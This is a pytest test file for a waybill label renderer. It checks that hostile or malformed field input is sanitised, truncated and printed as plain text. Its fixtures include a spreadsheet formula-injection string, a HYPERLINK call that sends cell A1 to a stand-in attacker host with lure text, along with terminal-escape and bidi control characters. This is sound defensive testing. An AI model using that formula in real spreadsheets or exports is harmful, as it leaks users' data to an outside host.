"""Hostile and broken input: free text is cleaned and cut to fit, never raises, never
overflows; glyphs the font lacks are reported; barcode payloads are refused, not cut."""

from __future__ import annotations

import unicodedata
from dataclasses import replace

import numpy as np
import pytest

from packstation.labels import (
    LABEL_SIZES,
    LabelDataError,
    PriorityMark,
    WaybillData,
    render_waybill,
)

from .conftest import assert_texts_inside, read_codes

CONTROL = "A\x00B\x07C\x1b[31mD\r\nE\tF\x7fG\u2028H\u202eI\u200dJ\ufeffK"
FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"点我领红包")'
HUGE_ADDRESS = "北京市朝阳区建国路 88 号 SOHO 现代城 " * 330  # ~10 kB


@pytest.fixture
def hostile(plain):
    return replace(
        plain,
        carrier="顺丰速运" * 100 + CONTROL,
        sort_text="京" * 1000,
        recipient_name=FORMULA,
        recipient_phone="+86 (138) 1234-5678 ext. 999999999999",
        recipient_address=HUGE_ADDRESS + CONTROL,
        sender_name=CONTROL * 50,
        sender_phone="=1+2" * 100,
        sender_address="\n".join([FORMULA] * 200),
        item_summary="超长商品名称" * 2000,
        remarks=CONTROL * 300,
        bench="B" * 5000,
        priority=PriorityMark("京", promise="2日达" * 50, city="北京" * 100),
    )


@pytest.mark.parametrize("dpi", [203, 300])
@pytest.mark.parametrize("size", LABEL_SIZES)
def test_hostile_fields_render_inside_the_label_and_codes_still_scan(
    size: str, dpi: int, hostile: WaybillData, plain: WaybillData,
) -> None:
    label = render_waybill(hostile, size=size, dpi=dpi)
    normal = render_waybill(replace(plain, priority=hostile.priority), size=size, dpi=dpi)
    if size != "80":
        assert label.image.size == normal.image.size
    else:  # continuous paper grows, but only up to the capped item lines
        assert label.image.height <= normal.image.height * 1.6
    assert_texts_inside(label)
    assert read_codes(label.image) == [
        ("Code128", hostile.waybill_no),
        ("Code128", hostile.waybill_no),
        ("QRCode", hostile.order_no),
    ]


def test_control_characters_never_reach_the_bitmap_text(hostile: WaybillData) -> None:
    label = render_waybill(hostile, "100x150")
    for run in label.texts:
        assert not any(unicodedata.category(c) in ("Cc", "Cf", "Zl") for c in run.text), run
    assert "A B C [31mD E F G H" in label.text()  # controls became single spaces


def test_long_text_is_cut_with_an_ellipsis(hostile: WaybillData) -> None:
    label = render_waybill(hostile, "76x130")
    recipient = [r.text for r in label.texts if r.band == "recipient"]
    assert recipient[-1].endswith("…")
    items = [r.text for r in label.texts if r.band == "items"]
    assert items[-1].endswith("…")
    assert any(r.text.endswith("…") for r in label.texts if r.band == "sort")


def test_formula_text_is_printed_as_plain_text(plain: WaybillData) -> None:
    label = render_waybill(replace(plain, sender_name=FORMULA[:20]), "100x150")
    assert any(r.text.startswith('=HYPERLINK("http') for r in label.texts)


def test_missing_glyphs_are_reported_and_drawn_as_boxes(plain: WaybillData) -> None:
    data = replace(plain, recipient_address="北京市📦朝阳区𠀀路 1 号", remarks="䶮 ok")
    label = render_waybill(data, "100x150")
    assert label.missing_glyphs == frozenset({"📦", "𠀀", "䶮"})
    text = label.text()
    assert "北京市□朝阳区□路 1 号" in text
    assert "备注：□ ok" in text


def test_emoji_sequences_report_the_emoji_not_the_joiners(plain: WaybillData) -> None:
    label = render_waybill(replace(plain, remarks="👍🏻❤️👨‍👩‍👧"), "100x150")
    assert "\u200d" not in label.missing_glyphs and "\ufe0f" not in label.missing_glyphs
    assert {"👍", "👨", "👩", "👧"} <= label.missing_glyphs


def test_a_label_with_empty_optional_fields_still_renders(plain: WaybillData) -> None:
    bare = type(plain)(carrier="", waybill_no="X1", order_no="1",
                       printed_at=plain.printed_at)
    label = render_waybill(bare, "76x130")
    assert read_codes(label.image) == [("Code128", "X1"), ("Code128", "X1"), ("QRCode", "1")]
    assert np.asarray(label.image, dtype=bool).mean() > 0.5  # mostly paper, not ink


@pytest.mark.parametrize("waybill", ["", "SF 123", "顺丰123", "SF\x00123", "9" * 41])
def test_barcode_payloads_are_refused_not_cut(plain: WaybillData, waybill: str) -> None:
    with pytest.raises(LabelDataError):
        replace(plain, waybill_no=waybill)


def test_order_number_must_fit_a_qr(plain: WaybillData) -> None:
    with pytest.raises(LabelDataError):
        replace(plain, order_no="1" * 65)


@pytest.mark.parametrize(("size", "dpi"), [("50x30", 203), ("100x150", 96), ("80", 1200)])
def test_unknown_sizes_and_resolutions_are_refused_with_a_message(
    plain: WaybillData, size: str, dpi: int,
) -> None:
    with pytest.raises(LabelDataError, match="203") if dpi != 203 else pytest.raises(
        LabelDataError, match="76x130"
    ):
        render_waybill(plain, size=size, dpi=dpi)


def test_priority_mark_must_be_one_of_the_five_cities() -> None:
    with pytest.raises(LabelDataError):
        PriorityMark("津")


def test_characters_masked_away_are_not_reported_missing(plain: WaybillData) -> None:
    data = replace(plain, recipient_name="张𠀀", recipient_phone="\x00139-8765-4321")
    label = render_waybill(data, "100x150")
    assert label.missing_glyphs == frozenset()
    assert "张*  139****4321" in label.text()


def test_lone_surrogates_and_unknown_letters_are_reported_not_raised(plain: WaybillData) -> None:
    data = replace(plain, recipient_address="A\ud800B\U000e0001C\u0301", bench="   ")
    label = render_waybill(data, "76x130")
    assert label.missing_glyphs == frozenset({"\ud800", "Ć"})  # the tag char is invisible
    assert "A□B□" in label.text()
    assert "工作台" not in label.text()  # a blank bench prints nothing, not "工作台 "
